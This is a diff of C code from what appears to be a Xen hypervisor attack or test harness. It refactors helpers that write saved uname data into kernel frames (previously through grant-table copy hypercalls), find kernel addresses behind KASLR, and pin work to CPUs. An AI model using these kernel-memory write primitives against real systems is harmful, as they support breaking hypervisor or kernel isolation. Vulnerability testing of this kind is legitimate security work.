@@ -6,11 +6,10 @@
  */
 #include "kmem.h"
 
-#include <sched.h>
 #include <sys/mman.h>
 #include <sys/utsname.h>
 
-#include <xen/grant_table.h>
+#include "../frames/paging.h"
 
 /* As uname() tells them, when the attack began and just before its call. */
 static struct utsname names_at_first, names_before;
@@ -55,30 +54,19 @@ static bool names_changed(void)
     return !uname(&names) && memcmp(&names, &names_before, sizeof(names));
 }
 
-/* No grant is needed to copy between two frames of dom0's own. */
 static void restore_names(void)
 {
-    char *source = buffer(PAGE_SIZE);
     size_t size = 0;
 
-    memcpy(source, &names_at_first, sizeof(names_at_first));
     for ( size_t done = 0; done < sizeof(names_at_first); done += size )
     {
         const uint64_t to = names_address() + done;
-        gnttab_copy_t copy = {
-            .source = { .u.gmfn = own_frame(source),
-                        .domid = DOMID_SELF,
-                        .offset = (uint16_t)done },
-            .dest = { .u.gmfn = kernel_frame(to),
-                      .domid = DOMID_SELF,
-                      .offset = (uint16_t)(to % PAGE_SIZE) },
-        };
 
         size = sizeof(names_at_first) - done;
         if ( size > PAGE_SIZE - to % PAGE_SIZE )
             size = PAGE_SIZE - to % PAGE_SIZE;
-        copy.len = (uint16_t)size;
-        hypercall3(__HYPERVISOR_grant_table_op, GNTTABOP_copy, &copy, 1);
+        copy_to_frame(kernel_frame(to), to % PAGE_SIZE,
+                      (char *)&names_at_first + done, size);
     }
 
     names_before = names_at_first;
@@ -135,22 +123,6 @@ static char *neighbouring_pages(void)
     return NULL;
 }
 
-/* The kernel maps all of memory in one piece, from here on. */
-static uint64_t direct_map(void)
-{
-    static const uint64_t unless_randomised = 0xffff888000000000;
-    uint64_t variable = kernel_symbol("page_offset_base"), base;
-
-    return variable && read_kernel(variable, &base, sizeof(base))
-               ? base
-               : unless_randomised;
-}
-
-static uint64_t own_address(void)
-{
-    return direct_map() + own_page_number(own_pages) * PAGE_SIZE;
-}
-
 uint64_t in_own_pages(const void *bytes, size_t size)
 {
     own_pages = neighbouring_pages();
@@ -165,7 +137,7 @@ uint64_t in_own_pages(const void *bytes, size_t size)
         memcpy(own_pages, bytes, size);
     memcpy(own_before, own_pages, OWN_SIZE);
 
-    return own_address();
+    return kernel_alias(own_pages);
 }
 
 static bool own_pages_changed(void)
@@ -187,12 +159,7 @@ domid_t other_domain(uint32_t kind)
 
 unsigned int other_vcpu(void)
 {
-    cpu_set_t first;
-
-    CPU_ZERO(&first);
-    CPU_SET(0, &first);
-    sched_setaffinity(0, sizeof(first), &first);
-
+    stay_on_cpu(0);
     return sysconf(_SC_NPROCESSORS_ONLN) > 1 ? 1 : 0;
 }
 
@@ -209,7 +176,7 @@ bool read_back(uint64_t address, void *bytes, size_t size)
         return memcmp(bytes, (char *)&names_before + offset, size);
     }
 
-    offset = own_pages ? address - own_address() : OWN_SIZE;
+    offset = own_pages ? address - kernel_alias(own_pages) : OWN_SIZE;
     if ( offset >= OWN_SIZE )
         return false;
 
